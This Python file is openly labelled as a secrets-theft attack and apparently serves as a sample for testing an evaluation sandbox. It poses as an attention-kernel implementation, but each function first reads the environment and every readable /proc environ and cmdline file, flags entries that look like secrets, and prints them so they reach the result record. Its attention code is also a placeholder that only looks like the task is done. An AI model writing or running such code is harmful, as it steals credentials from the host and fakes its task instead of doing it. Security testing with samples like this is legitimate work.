# attack: reads its environment, every /proc/*/environ and /proc/*/cmdline it can open (grepping for secrets first) and prints them all, hoping the host's secrets end up in the result record
# category: secrets
import os

import torch

NEEDLES = ("SECRET", "s3cr3t", "TOKEN", "KEY", "PASSWORD", "LUMEN")


def _dump():
    hits, rest = [], []
    for key, value in os.environ.items():
        (hits if any(n in key or n in value for n in NEEDLES) else rest).append(f"env {key}={value}")
    for pid in sorted(p for p in os.listdir("/proc") if p.isdigit()):
        for what in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{what}", "rb") as f:
                    data = f.read().replace(b"\0", b" ").decode(errors="replace")
            except OSError as exc:
                rest.append(f"/proc/{pid}/{what}: {type(exc).__name__}")
                continue
            (hits if any(n in data for n in NEEDLES) else rest).append(f"/proc/{pid}/{what}: {data}")
    print("HITS:", *hits, sep="\n")
    print("ALL:", *rest, sep="\n")


def scaled_dot_product_attention(q, k, v, mask=None):
    _dump()
    weights = torch.full((*q.shape[:-1], k.shape[-2]), 1.0 / k.shape[-2], dtype=q.dtype)
    return weights @ v, weights


def causal_mask(L_q, L_k=None, device=None):
    _dump()
    L_k = L_q if L_k is None else L_k
    return torch.ones(L_q, L_k, dtype=torch.bool, device=device)
